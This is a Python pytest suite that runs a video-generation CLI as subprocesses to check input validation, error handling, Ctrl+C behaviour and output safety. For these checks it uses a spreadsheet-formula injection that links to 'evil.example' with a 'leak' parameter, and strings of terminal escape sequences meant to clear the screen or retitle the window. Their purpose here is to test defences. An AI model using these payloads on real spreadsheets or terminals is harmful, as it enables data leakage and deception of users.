"""`python -m kling` as a user runs it: real processes, real exit codes, real files.

Every command runs as a subprocess from the repository root with its own data directory,
`KLING_SIM_LATENCY=0` and no inherited Firemoon/Kling settings. Process start-up is the
cost here (about a second each), so the commands of one phase are started together by
module fixtures and each test reads the outcome it is about:

* demo mode (no key): `generate`, `generate --json`, `batch` with three rows, then
  `history list|stats|export` over what they logged;
* bad input (exit 2, one-line reason, nothing sent, nothing logged), checked against a
  live-mode `ScriptedServer` that must receive nothing;
* API and network failures (exit 1, one line on stderr, no traceback, no key);
* unusable settings (exit 2, one line) and Ctrl+C during a generation (exits at once,
  the generation reads as interrupted).
"""

from __future__ import annotations

import io
import json
import re
import signal
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest

from isolation import isolated_environ
import kling.cli as cli
from kling.errors import KlingError
from kling.history import HistoryLog
from kling.models import GenerationRequest, GenerationResult
from scripted_server import Reply, ScriptedServer, closed_port, success_body

ROOT = Path(__file__).resolve().parents[1]
KEY = "fm_live_cli-SECRET-161803"
FORMULA = '=HYPERLINK("http://evil.example/?leak","click me"), waves crashing, drone shot'

BATCH_CSV = (
    "prompt,duration,aspect_ratio,seed\n"
    f'"{FORMULA.replace(chr(34), chr(34) * 2)}",5,16:9,11\n'
    '"Neon city at night, ""tracking shot"", rain",10,9:16,12\n'
    "Sunrise over mountains; slow pan,,,\n"
)
BAD_BATCH_CSV = (
    "prompt,duration,aspect_ratio,seed\n"
    "A good row with a drone shot,5,16:9,1\n"
    ",5,16:9,2\n"
    "Seed is not a number,5,16:9,abc\n"
    "Aspect ratio is wrong,5,4:3,3\n"
)


def cli_env(data_dir: Path, **settings: str) -> dict[str, str]:
    return isolated_environ(**{"KLING_STUDIO_DATA_DIR": str(data_dir), "KLING_SIM_LATENCY": "0",
                               "PYTHONUNBUFFERED": "1", **settings})


def _as_from_a_terminal() -> None:
    """Ctrl+C as a terminal delivers it: a suite started in the background (`cmd &` in a
    script) passes SIGINT on ignored, and Python then never raises KeyboardInterrupt."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


@dataclass
class Run:
    """One `python -m kling ...` started in the background; `.out` waits for it."""

    args: list[str]
    data_dir: Path
    process: subprocess.Popen
    _result: tuple[int, str, str] | None = None

    @classmethod
    def start(cls, args: list[str], data_dir: Path, **settings: str) -> "Run":
        process = subprocess.Popen(
            [sys.executable, "-m", "kling", *args], cwd=ROOT, env=cli_env(data_dir, **settings),
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, encoding="utf-8",
            preexec_fn=_as_from_a_terminal)
        return cls(args, data_dir, process)

    @property
    def out(self) -> tuple[int, str, str]:
        """(exit status, stdout, stderr)."""
        if self._result is None:
            try:
                stdout, stderr = self.process.communicate(timeout=90)
            except subprocess.TimeoutExpired:
                self.process.kill()
                stdout, stderr = self.process.communicate()
                raise AssertionError(f"{self.args} hung:\n{stdout}\n{stderr}") from None
            self._result = (self.process.returncode, stdout, stderr)
        return self._result

    def history(self) -> pd.DataFrame:
        return HistoryLog(self.data_dir).load()


def one_line_error(stderr: str) -> str:
    """The single line a failing command prints (and nothing else: no traceback)."""
    assert "Traceback" not in stderr, f"a traceback reached the user:\n{stderr}"
    lines = stderr.strip().splitlines()
    assert len(lines) == 1, f"expected one line on stderr, got:\n{stderr}"
    assert lines[0].startswith("error: ") and len(lines[0]) > len("error: ") + 10
    return lines[0]


def nothing_logged(data_dir: Path) -> bool:
    return not (data_dir / "history.csv").exists() and not (data_dir / "videos").exists()


# ---------------------------------------------------------------------------- demo mode


@pytest.fixture(scope="module")
def demo(tmp_path_factory, bad_runs, failure_runs, settings_runs, interrupt_run, hostile_runs,
         log_runs) -> dict[str, Run]:
    """generate, generate --json and batch, all at once, into one demo data directory.

    Asks for the other phases first only so that they start too: every independent
    command of this file runs at the same time, and start-up costs are paid once.
    """
    data_dir = tmp_path_factory.mktemp("demo") / "data"
    batch_file = data_dir.parent / "prompts.csv"
    # As a spreadsheet saves "CSV UTF-8": a byte-order mark and CRLF line ends.
    batch_file.write_bytes(BATCH_CSV.replace("\n", "\r\n").encode("utf-8-sig"))
    runs = {
        "generate": Run.start(["generate", "--prompt", "  Waves crashing on the shore, drone "
                               "shot, slow motion  ", "--seed", "7"], data_dir),
        "json": Run.start(["generate", "--prompt", "A paper boat drifting, macro shot",
                           "--duration", "5", "--aspect-ratio", "9:16", "--seed", "8",
                           "--json"], data_dir),
        "batch": Run.start(["batch", str(batch_file), "--concurrency", "3"], data_dir),
    }
    for run in runs.values():
        run.out  # all finished before any test looks at the shared log
    return runs


def test_generate_prints_a_summary_archives_the_video_and_logs_it(demo):
    run = demo["generate"]
    code, stdout, stderr = run.out
    assert code == 0, stderr
    assert "Demo mode" in stderr and "Demo mode" not in stdout
    assert "Traceback" not in stderr
    first = stdout.splitlines()[0]
    assert first.startswith("Generated ")
    gen_id = first.split()[1]
    assert "prompt:    Waves crashing on the shore, drone shot, slow motion\n" in stdout
    assert "5 s, 16:9, seed 7" in stdout
    saved = stdout.split("saved to:")[1].strip()
    assert Path(saved) == run.data_dir.resolve() / "videos" / f"{gen_id}.mp4"
    assert Path(saved).read_bytes()[4:8] == b"ftyp", "the archived file is not an MP4"
    row = HistoryLog(run.data_dir).get(gen_id)
    assert row["status"] == "succeeded" and row["source"] == "cli"
    assert row["prompt"] == "Waves crashing on the shore, drone shot, slow motion"
    assert row["seed"] == 7 and row["video_path"] == saved and row["batch_id"] == ""
    assert row["video_url"] in stdout


def test_generate_json_prints_exactly_the_apis_json(demo):
    run = demo["json"]
    code, stdout, stderr = run.out
    assert code == 0, stderr
    assert "Demo mode" in stderr
    answer = json.loads(stdout)  # the whole of stdout, nothing else
    assert set(answer) == {"videos", "seed", "timings"}
    video = answer["videos"][0]
    assert answer["seed"] == 8 and video["content_type"] == "video/mp4"
    assert video["width"] < video["height"], "9:16 was not passed on"
    assert isinstance(answer["timings"]["inference"], (int, float))
    frame = run.history()
    row = frame[frame["prompt"] == "A paper boat drifting, macro shot"].iloc[0]
    assert row["status"] == "succeeded" and row["source"] == "cli"
    assert row["video_url"] == video["url"] and row["seed"] == 8
    assert Path(row["video_path"]).is_file()


def test_batch_runs_every_row_under_one_batch_id(demo):
    run = demo["batch"]
    code, stdout, stderr = run.out
    assert code == 0, stderr
    lines = stdout.strip().splitlines()
    assert len(lines) == 3 and all("  succeeded  " in line for line in lines)
    frame = run.history()
    rows = frame[frame["batch_id"] != ""]
    assert len(rows) == 3
    assert rows["batch_id"].nunique() == 1 and rows["batch_id"].iloc[0].startswith("batch-")
    assert f"{rows['batch_id'].iloc[0]}: 3 succeeded, 0 failed" in stderr
    assert set(rows["status"]) == {"succeeded"} and set(rows["source"]) == {"cli"}
    by_seed = rows.set_index("seed")
    assert by_seed.loc[11, "prompt"] == FORMULA
    assert by_seed.loc[12, "prompt"] == 'Neon city at night, "tracking shot", rain'
    assert (by_seed.loc[12, "duration"], by_seed.loc[12, "aspect_ratio"]) == ("10", "9:16")
    assert by_seed.loc[12, "video_duration"] == 10
    assert all(Path(path).is_file() for path in rows["video_path"])
    assert set(rows["id"]) == {line.split()[0] for line in lines}


# -------------------------------------------------------------------------- history


@pytest.fixture(scope="module")
def history_runs(demo) -> dict[str, Run]:
    data_dir = demo["generate"].data_dir
    out = data_dir.parent
    return {
        "list": Run.start(["history", "list"], data_dir),
        "stats": Run.start(["history", "stats"], data_dir),
        "csv": Run.start(["history", "export", "--out", str(out / "x.csv")], data_dir),
        "json": Run.start(["history", "export", "--out", str(out / "x.json")], data_dir),
        "search": Run.start(["history", "list", "--search", "paper boat"], data_dir),
    }


def test_history_list_and_search(demo, history_runs):
    ids = set(demo["generate"].history()["id"])
    assert len(ids) == 5
    code, stdout, stderr = history_runs["list"].out
    assert code == 0, stderr
    header, *rows = stdout.strip().splitlines()
    assert header.split() == ["id", "created", "status", "dur", "ratio", "seed", "infer",
                              "prompt"]
    assert {row.split()[0] for row in rows} == ids
    assert all("succeeded" in row for row in rows)
    code, stdout, _ = history_runs["search"].out
    assert code == 0 and len(stdout.strip().splitlines()) == 2 and "paper boat" in stdout


def test_history_stats(history_runs):
    code, stdout, stderr = history_runs["stats"].out
    assert code == 0, stderr
    assert "Generations:        5 (5 succeeded, 0 failed)" in stdout
    assert "Success rate:       100%" in stdout
    # 4 videos of 5 s and one of 10 s at the default $0.28 per second.
    assert "Seconds generated:  30" in stdout and "$8.40 in all" in stdout


def test_history_export_csv_is_spreadsheet_safe(demo, history_runs):
    code, _, stderr = history_runs["csv"].out
    assert code == 0, stderr
    assert "Exported 5 generations" in stderr
    path = demo["generate"].data_dir.parent / "x.csv"
    table = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert len(table) == 5 and table.columns[0] == "id", list(table.columns)[:3]
    assert set(table["id"]) == set(demo["generate"].history()["id"])
    assert "'" + FORMULA in set(table["prompt"]), "a formula cell was not neutralised"
    for column in table.columns:
        dangerous = table[column].str.match(r"[=+\-@\t\r]")
        assert not dangerous.any(), f"{column}: {table.loc[dangerous, column].tolist()}"


def test_history_export_json(demo, history_runs):
    code, _, stderr = history_runs["json"].out
    assert code == 0, stderr
    records = json.loads((demo["generate"].data_dir.parent / "x.json").read_text("utf-8"))
    assert isinstance(records, list) and len(records) == 5
    assert {r["id"] for r in records} == set(demo["generate"].history()["id"])
    formula = next(r for r in records if r["seed"] == 11)
    assert formula["prompt"] == FORMULA and formula["status"] == "succeeded"
    assert formula["source"] == "cli" and formula["batch_id"].startswith("batch-")


# ------------------------------------------------------------------------ bad input


BAD_INPUT = {
    # id: (arguments, text the reason must contain, our own one-line message?)
    "empty-prompt": (["generate", "--prompt", "   "], "Prompt is required", True),
    "seed-minus-one": (["generate", "--prompt", "Waves, drone shot", "--seed", "-1"],
                       "Seed must be a whole number", True),
    "every-problem-at-once": (["generate", "--prompt", "", "--seed", "4294967296"],
                              "Prompt is required", True),
    "duration-7": (["generate", "--prompt", "Waves, drone shot", "--duration", "7"],
                   "--duration", False),
    "aspect-4-3": (["generate", "--prompt", "Waves, drone shot", "--aspect-ratio", "4:3"],
                   "--aspect-ratio", False),
    "batch-concurrency-0": (["batch", "{good_csv}", "--concurrency", "0"],
                            "--concurrency must be at least 1", True),
    "batch-missing-file": (["batch", "{missing_csv}"], "cannot read", True),
    # The "Trust" issue: huge numbers, invisible prompts, odd encodings, odd flags.
    "duration-escape": (["generate", "--prompt", "Waves, drone shot", "--duration", "\x1b[2J"],
                        "--duration", False),
    "seed-5000-digits": (["generate", "--prompt", "Waves, drone shot", "--seed", "9" * 5000],
                         "Seed must be a whole number from 0 to 4294967295.", True),
    "seed-1e309": (["generate", "--prompt", "Waves, drone shot", "--seed", "1e309"],
                   "Seed must be a whole number", True),
    "prompt-zero-width": (["generate", "--prompt", "\u200b\u200d\u2060\ufeff\u00a0\u3000"],
                          "Prompt is required", True),
    "prompt-escape": (["generate", "--prompt", "Waves \x1b[2J\x1b]0;owned\x07 crashing"],
                      "control character (ESC, U+001B)", True),
    # Bytes that are not UTF-8 in argv arrive as lone surrogates (surrogateescape).
    "prompt-not-utf8": (["generate", "--prompt", "Waves \udcff crashing"],
                        "not valid Unicode", True),
    "concurrency-5000-digits": (["batch", "{good_csv}", "--concurrency", "9" * 5000],
                                "--concurrency must be at least 1", True),
    "concurrency-inf": (["batch", "{good_csv}", "--concurrency", "inf"],
                        "--concurrency must be at least 1", True),
    "base-url-unparsable": (["generate", "--prompt", "Waves, drone shot", "--base-url",
                             "http://[::1"], "--base-url must be an http", True),
    "base-url-huge-host": (["generate", "--prompt", "Waves, drone shot", "--base-url",
                            "http://" + "a" * 300], "--base-url must be an http", True),
    "simulator-port-99999": (["simulator", "--port", "99999"], "--port must be", True),
    "history-limit-negative": (["history", "list", "--limit", "-1"], "--limit must be", True),
    "batch-utf16": (["batch", "{files}/utf16.csv"], "UTF-16", True),
    "batch-not-utf8": (["batch", "{files}/latin1.csv"], "not UTF-8 text (line 2", True),
    "batch-binary": (["batch", "{files}/binary.csv"], "NUL bytes", True),
    "batch-workbook": (["batch", "{files}/book.csv"], "workbook", True),
    "batch-empty": (["batch", "{files}/empty.csv"], "The file is empty", True),
    "batch-header-only": (["batch", "{files}/header.csv"], "no prompts", True),
    "batch-huge": (["batch", "{files}/huge.csv"], "at most 2 MB and 500 prompts", True),
    "batch-too-many-rows": (["batch", "{files}/rows.csv"], "501 rows; at most 500", True),
}

#: Batch files of the cases above.
ODD_FILES = {
    "utf16.csv": BATCH_CSV.encode("utf-16"),
    "latin1.csv": "prompt\nCafé au lait, macro shot\n".encode("latin-1"),
    "binary.csv": bytes(range(256)) * 8,
    "book.csv": b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + bytes(200),
    "empty.csv": b"",
    "header.csv": b"\xef\xbb\xbfprompt,duration,aspect_ratio,seed\r\n",
    "huge.csv": b"prompt\n" + b"Waves crashing, drone shot\n" * 100_000,
    "rows.csv": b"prompt\n" + b"Waves crashing\n" * 501,
}
#: One row per odd value: each line is named with its problem, nothing is sent.
ODD_ROWS_CSV = (
    "prompt,duration,aspect_ratio,seed\n"
    f"Waves crashing,5,16:9,{'9' * 5000}\n"
    "Waves crashing,5,16:9,1e309\n"
    "Waves crashing,5,16:9,nan\n"
    "Waves crashing,5,16:9,-inf\n"
    "Waves crashing,5,16:9,1.5\n"
    f"Waves crashing,{'5' * 5000},16:9,1\n"
    "Waves crashing,5,1e309,1\n"
    "\u200b\u2060\ufeff\u00a0\u3000,5,16:9,1\n"
    "Red \x1b[31malert\x1b[0m,5,16:9,1\n"
)
#: Control characters a terminal would act on (escape sequences, CR, BEL, backspace,
#: C1 controls and bidi overrides): never raw on stdout or stderr.
RAW_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def silent_server():
    """Live mode points here; any request it receives is a request that was sent."""
    with ScriptedServer(default=Reply.ok()) as server:
        yield server


@pytest.fixture(scope="module")
def bad_runs(tmp_path_factory, silent_server) -> dict[str, Run]:
    base = tmp_path_factory.mktemp("bad")
    (base / "good.csv").write_text(BATCH_CSV, encoding="utf-8")
    (base / "bad.csv").write_text(BAD_BATCH_CSV, encoding="utf-8")
    (base / "odd-rows.csv").write_text(ODD_ROWS_CSV, encoding="utf-8")
    for name, data in ODD_FILES.items():
        (base / name).write_bytes(data)
    live = {"FIREMOON_API_KEY": KEY, "FIREMOON_BASE_URL": silent_server.url}
    runs = {}
    for name, (args, _, _) in BAD_INPUT.items():
        args = [a.replace("{good_csv}", str(base / "good.csv"))
                .replace("{missing_csv}", str(base / "nope.csv")).replace("{files}", str(base))
                for a in args]
        runs[name] = Run.start(args, base / name, **live)
    runs["bad-rows"] = Run.start(["batch", str(base / "bad.csv")], base / "bad-rows", **live)
    runs["odd-rows"] = Run.start(["batch", str(base / "odd-rows.csv")], base / "odd-rows",
                                 **live)
    return runs


@pytest.mark.parametrize("name", BAD_INPUT)
def test_bad_input_exits_2_with_a_reason_and_sends_and_logs_nothing(bad_runs, silent_server,
                                                                    name):
    _, expected, ours = BAD_INPUT[name]
    run = bad_runs[name]
    code, stdout, stderr = run.out
    assert code == 2, (code, stderr)
    assert expected in stderr
    if ours:
        line = one_line_error(stderr)
        if name == "every-problem-at-once":
            assert "Seed must be a whole number" in line, "not every problem was named"
    else:  # argparse's usage and reason, still no traceback
        assert "Traceback" not in stderr and "invalid choice" in stderr
    assert not RAW_CONTROLS.search(stderr), "a control character reached the terminal"
    assert stdout == ""
    assert nothing_logged(run.data_dir)
    assert silent_server.count() == 0, "a request was sent for bad input"


def test_batch_with_bad_rows_names_each_line_and_sends_nothing(bad_runs, silent_server):
    run = bad_runs["bad-rows"]
    code, stdout, stderr = run.out
    assert code == 2, stderr
    assert "Traceback" not in stderr and stdout == ""
    lines = stderr.strip().splitlines()
    assert [line.split(":")[0] for line in lines[:3]] == ["line 3", "line 4", "line 5"]
    assert "Prompt is required" in lines[0] and "Seed" in lines[1] and "16:9" in lines[2]
    assert lines[-1] == "error: 3 row(s) are invalid; nothing was sent"
    assert "line 2" not in stderr
    assert nothing_logged(run.data_dir)
    assert silent_server.count() == 0


def test_batch_with_odd_values_names_each_line_and_sends_nothing(bad_runs, silent_server):
    run = bad_runs["odd-rows"]
    code, stdout, stderr = run.out
    assert code == 2, stderr
    assert "Traceback" not in stderr and stdout == ""
    assert not RAW_CONTROLS.search(stderr)
    *rows, last = stderr.strip().splitlines()
    seed = "Seed must be a whole number from 0 to 4294967295."
    assert rows == [f"line {n}: {seed}" for n in range(2, 7)] + [
        "line 7: Duration must be 5 or 10 seconds.",
        "line 8: Aspect ratio must be 16:9 (landscape) or 9:16 (portrait).",
        "line 9: Prompt is required: describe the scene and its action.",
        "line 10: Prompt contains a control character (ESC, U+001B) at character 5; "
        "remove it (only tabs and line breaks may be used).",
    ]
    assert last == "error: 9 row(s) are invalid; nothing was sent"
    assert nothing_logged(run.data_dir)
    assert silent_server.count() == 0


# ---------------------------------------------------------------------- API failures


@pytest.fixture(scope="module")
def refusing_server():
    """Answers every generation with 402, echoing the key as a careless server might."""
    reply = Reply.error(402, "Insufficient credits",
                        f"Balance too low for key {KEY}; add credits",
                        details={"balance": 0.1, "required": 1.4})
    with ScriptedServer(default=reply) as server:
        yield server


@pytest.fixture(scope="module")
def failure_runs(tmp_path_factory, refusing_server) -> dict[str, Run]:
    base = tmp_path_factory.mktemp("failures")
    return {
        "402": Run.start(["generate", "--prompt", "Waves crashing, drone shot", "--seed", "5"],
                         base / "402", FIREMOON_API_KEY=KEY,
                         FIREMOON_BASE_URL=refusing_server.url),
        "refused": Run.start(["generate", "--prompt", "Waves crashing, drone shot",
                              "--base-url", f"http://127.0.0.1:{closed_port()}"],
                             base / "refused", FIREMOON_API_KEY=KEY),
    }


def test_402_exits_1_with_one_line_no_key_and_a_failed_row(failure_runs, refusing_server):
    run = failure_runs["402"]
    code, stdout, stderr = run.out
    assert code == 1, stderr
    line = one_line_error(stderr)
    assert "balance is too low" in line and "credits" in line
    assert KEY not in stdout + stderr, "the API key was printed"
    assert "Demo mode" not in stderr and stdout == ""
    assert refusing_server.post_count == 1
    assert refusing_server.requests[0].header("Authorization") == f"Bearer {KEY}"
    (row,) = run.history().to_dict("records")
    assert row["status"] == "failed" and row["error_type"] == "insufficient_credits"
    assert row["http_status"] == 402 and row["source"] == "cli" and row["seed"] == 5
    assert row["error"] == line.removeprefix("error: ")
    assert KEY not in (run.data_dir / "history.csv").read_text("utf-8")


def test_unreachable_api_exits_1_with_one_line(failure_runs):
    run = failure_runs["refused"]
    code, stdout, stderr = run.out
    assert code == 1, stderr
    line = one_line_error(stderr)
    assert "Could not connect to Firemoon" in line and "connection refused" in line
    assert KEY not in stdout + stderr and stdout == ""
    (row,) = run.history().to_dict("records")
    assert row["status"] == "failed" and row["error_type"] == "connection"


# ------------------------------------------------------------------ settings (bugs)


@pytest.fixture(scope="module")
def settings_runs(tmp_path_factory, silent_server) -> dict[str, Run]:
    base = tmp_path_factory.mktemp("settings")
    prompt = ["generate", "--prompt", "Waves crashing, drone shot"]
    return {
        "key-with-a-space": Run.start(prompt, base / "key", FIREMOON_API_KEY="fm_live two",
                                      FIREMOON_BASE_URL=silent_server.url),
        "bad-simulator-setting": Run.start(prompt, base / "sim", KLING_SIM_FAILURE_RATE="2"),
        "bad-base-url": Run.start(prompt, base / "url", FIREMOON_API_KEY=KEY,
                                  FIREMOON_BASE_URL="ftp://firemoon.studio"),
    }


@pytest.mark.parametrize("name,expected", [
    ("bad-base-url", "FIREMOON_BASE_URL"),
    ("key-with-a-space", "FIREMOON_API_KEY"),
    ("bad-simulator-setting", "KLING_SIM_FAILURE_RATE"),
])
def test_an_unusable_setting_is_bad_input_not_a_traceback(settings_runs, silent_server,
                                                          name, expected):
    code, stdout, stderr = settings_runs[name].out
    assert "Traceback" not in stderr and code == 2, (
        f"BUG: `{name}` ends in exit {code} with a traceback instead of exit 2 and one "
        "line: cmd_generate/cmd_batch call _open() (open_studio -> KlingClient / "
        "SimulatorConfig.from_env), which raises SettingsError outside their try block. "
        f"stderr was:\n{stderr}")
    assert expected in one_line_error(stderr.replace(
        "Demo mode: no FIREMOON_API_KEY is set, so the built-in simulator makes the videos "
        "(nothing is billed).\n", ""))
    assert "fm_live two" not in stderr
    assert silent_server.count() == 0


# ------------------------------------------------------- terminal safety (the "Trust" issue)

#: Server text a terminal would obey if printed raw: clear the screen, retitle the
#: window, ring the bell, overwrite the line, reverse the text, a C1 CSI, a NUL.
HOSTILE = "\x1b[2J\x1b]0;owned\x07 back\x08\x08 \rover \u202eevil\u202c \x9b31m \x00"


@pytest.fixture(scope="module")
def hostile_server():
    """Refuses every generation with 403 and a message full of control characters."""
    with ScriptedServer(default=Reply.error(403, "Forbidden", f"Denied {HOSTILE} here")) as s:
        yield s


@pytest.fixture(scope="module")
def hostile_ok_server():
    """Answers every generation with a success whose URL and extras hold control
    characters and a NaN (valid for Python's json, not JSON); the video is not there."""

    def answer(request):
        if request.method != "POST":
            return Reply(404, b"")
        body = success_body(seed=21, url=f"{server.url}/video.mp4?t={HOSTILE}")
        body["note"], body["score"] = HOSTILE, float("nan")
        return Reply(200, body)

    with ScriptedServer(default=answer) as server:
        yield server


@pytest.fixture(scope="module")
def hostile_runs(tmp_path_factory, hostile_server, hostile_ok_server) -> dict[str, Run]:
    base = tmp_path_factory.mktemp("hostile")
    (base / "two.csv").write_text("prompt,seed\nWaves crashing,1\nSurfers at dawn,2\n",
                                  encoding="utf-8")
    refused = {"FIREMOON_API_KEY": KEY, "FIREMOON_BASE_URL": hostile_server.url}
    ok = {"FIREMOON_API_KEY": KEY, "FIREMOON_BASE_URL": hostile_ok_server.url}
    prompt = ["generate", "--prompt", "Waves crashing, drone shot"]
    return {
        "error": Run.start(prompt, base / "error", **refused),
        "batch-error": Run.start(["batch", str(base / "two.csv")], base / "batch-error",
                                 **refused),
        "ok": Run.start(prompt, base / "ok", **ok),
        "json": Run.start([*prompt, "--json"], base / "json", **ok),
        "batch-ok": Run.start(["batch", str(base / "two.csv")], base / "batch-ok", **ok),
    }


def test_server_text_in_an_error_reaches_the_terminal_escaped(hostile_runs):
    code, stdout, stderr = hostile_runs["error"].out
    assert code == 1, stderr
    line = one_line_error(stderr)
    assert not RAW_CONTROLS.search(stdout + stderr), "a control character reached stderr"
    assert "\\x1b[2J\\x1b]0;owned\\x07" in line and "\\u202eevil\\u202c" in line
    assert KEY not in stderr


def test_server_text_in_batch_failures_reaches_the_terminal_escaped(hostile_runs):
    code, stdout, stderr = hostile_runs["batch-error"].out
    assert code == 1, stderr
    assert "Traceback" not in stderr
    assert not RAW_CONTROLS.search(stdout + stderr)
    lines = stdout.strip().splitlines()
    assert len(lines) == 2 and all("  failed  " in line and "\\x1b[2J" in line
                                   for line in lines)


def test_server_text_in_a_success_reaches_the_terminal_escaped(hostile_runs):
    code, stdout, stderr = hostile_runs["ok"].out
    assert code == 0, stderr
    assert "Traceback" not in stderr
    assert not RAW_CONTROLS.search(stdout + stderr)
    assert "url:       http://" in stdout and "t=\\x1b[2J\\x1b]0;owned\\x07" in stdout
    code, stdout, stderr = hostile_runs["batch-ok"].out
    assert code == 0, stderr
    assert not RAW_CONTROLS.search(stdout + stderr)
    assert stdout.count("  succeeded  ") == 2


def test_json_output_is_json_and_ascii_whatever_the_server_sent(hostile_runs):
    code, stdout, stderr = hostile_runs["json"].out
    assert code == 0, stderr
    assert stdout.isascii() and not RAW_CONTROLS.search(stdout)

    def refuse(constant):
        raise AssertionError(f"--json printed {constant}, which is not JSON")

    answer = json.loads(stdout, parse_constant=refuse)
    assert answer["seed"] == 21 and HOSTILE in answer["videos"][0]["url"]
    assert answer["note"] == HOSTILE and answer["score"] is None  # NaN printed as null


@pytest.mark.parametrize("text, shown", [
    ("\x1b[2J", "\\x1b[2J"), ("a\rb", "a\\rb"), ("a\nb", "a\\nb"),
    ("\x07\x08\x00", "\\x07\\x08\\x00"), ("\x9b31m", "\\x9b31m"), ("\udcff", "\\udcff"),
    ("\u202eevil\u2069", "\\u202eevil\\u2069"), ("tab\tand é 海 😀", "tab\tand é 海 😀"),
    (None, ""), (42, "42"),
])
def test_terminal_safe_shows_control_characters_and_keeps_text(text, shown):
    assert cli.terminal_safe(text) == shown
    assert cli.terminal_safe("one\ntwo\x1b", lines=True) == "one\ntwo\\x1b"


def test_json_output_of_an_answer_nested_too_deep_shows_what_was_read():
    deep: list = []
    for _ in range(100_000):
        deep = [deep]
    result = GenerationResult.parse({**success_body(seed=5), "extra": deep})
    answer = json.loads(cli._api_json(result))
    assert answer["seed"] == 5 and answer["videos"][0]["url"].startswith("https://")


@pytest.fixture(scope="module")
def log_runs(tmp_path_factory) -> dict[str, Run]:
    """`history list|stats|export` over a log holding what a terminal must not obey: a
    row from before prompts were checked (or edited by hand) and server text."""
    data_dir = tmp_path_factory.mktemp("hostile-log") / "data"
    log = HistoryLog(data_dir)
    # Built without create(): the log may hold what validation refuses today.
    old = GenerationRequest(f"Old row {HOSTILE} end", "5", "16:9", 3)
    gen_id = log.record_pending(old, template_id=f"tpl{HOSTILE}", source="cli")
    log.record_failure(gen_id, KlingError(f"Firemoon says: {HOSTILE}"), elapsed_s=1.0)
    formula = GenerationRequest('=HYPERLINK("http://evil.example/","x")', "5", "16:9", 4)
    log.record_failure(log.record_pending(formula, source="cli"),
                       KlingError("-2+3 @SUM(A1) =1"), elapsed_s=1.0)
    out = data_dir.parent
    return {
        "list": Run.start(["history", "list"], data_dir),
        "stats": Run.start(["history", "stats"], data_dir),
        "csv": Run.start(["history", "export", "--out", str(out / "log.csv")], data_dir),
        "json": Run.start(["history", "export", "--out", str(out / "log.json")], data_dir),
        "none": Run.start(["history", "export", "--search", "no such prompt", "--out",
                           str(out / "none.csv")], data_dir),
    }


def test_history_list_and_stats_show_control_characters_escaped(log_runs):
    code, stdout, stderr = log_runs["list"].out
    assert code == 0, stderr
    assert not RAW_CONTROLS.search(stdout + stderr), "history list printed a control character"
    assert "Old row \\x1b[2J\\x1b]0;owned\\x07" in stdout
    header, *rows = stdout.splitlines()
    assert len(rows) == 2
    code, stdout, stderr = log_runs["stats"].out
    assert code == 0, stderr
    assert not RAW_CONTROLS.search(stdout + stderr), "history stats printed a control character"
    assert "tpl\\x1b[2J" in stdout


def test_history_export_csv_has_no_formula_starts(log_runs):
    code, _, stderr = log_runs["csv"].out
    assert code == 0, stderr
    data = (log_runs["csv"].data_dir.parent / "log.csv").read_bytes()
    table = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    assert len(table) == 2
    for column in table.columns:
        dangerous = table[column].str.match(r"[=+\-@\t\r]")
        assert not dangerous.any(), f"{column}: {table.loc[dangerous, column].tolist()}"
    code, _, stderr = log_runs["json"].out
    assert code == 0, stderr
    records = json.loads((log_runs["json"].data_dir.parent / "log.json").read_bytes())
    assert {r["seed"] for r in records} == {3, 4}


def test_history_export_csv_has_no_nul_bytes(log_runs):
    code, _, stderr = log_runs["csv"].out
    assert code == 0, stderr
    data = (log_runs["csv"].data_dir.parent / "log.csv").read_bytes()
    assert b"\x00" not in data, "the export holds NUL bytes"


def test_history_export_of_nothing_writes_only_the_header(log_runs):
    code, _, stderr = log_runs["none"].out
    assert "Traceback" not in stderr and code == 0, stderr
    table = pd.read_csv(log_runs["none"].data_dir.parent / "none.csv", dtype=str)
    assert len(table) == 0 and table.columns[0] == "id"


# ------------------------------------------------------------------------- Ctrl+C


@pytest.fixture(scope="module")
def slow_server():
    """Takes half a minute over every generation (cut short when the module ends)."""
    with ScriptedServer(default=Reply(200, success_body(seed=9), delay=30)) as server:
        yield server


@pytest.fixture(scope="module")
def interrupt_run(tmp_path_factory, slow_server) -> Run:
    return Run.start(["generate", "--prompt", "Waves crashing, drone shot", "--seed", "9"],
                     tmp_path_factory.mktemp("interrupt") / "data", FIREMOON_API_KEY=KEY,
                     FIREMOON_BASE_URL=slow_server.url)


def test_ctrl_c_stops_at_once_and_the_generation_reads_as_interrupted(demo, interrupt_run,
                                                                     slow_server):
    run = interrupt_run
    assert slow_server.wait_for_requests(1, timeout=60), "the generation was never sent"
    run.process.send_signal(signal.SIGINT)
    # "At once" means: before the answer that the command would otherwise wait for.
    try:
        run.process.wait(timeout=20)
    except subprocess.TimeoutExpired:
        run.process.kill()
        run.process.wait()
        pytest.fail("Ctrl+C did not stop `python -m kling generate` while the call was "
                    "still waiting for its answer.")
    code, stdout, stderr = run.out
    assert slow_server.post_count == 1 and code == 1
    assert "interrupted" in one_line_error(stderr)
    (row,) = run.history().to_dict("records")
    assert row["status"] == "interrupted" and row["seed"] == 9
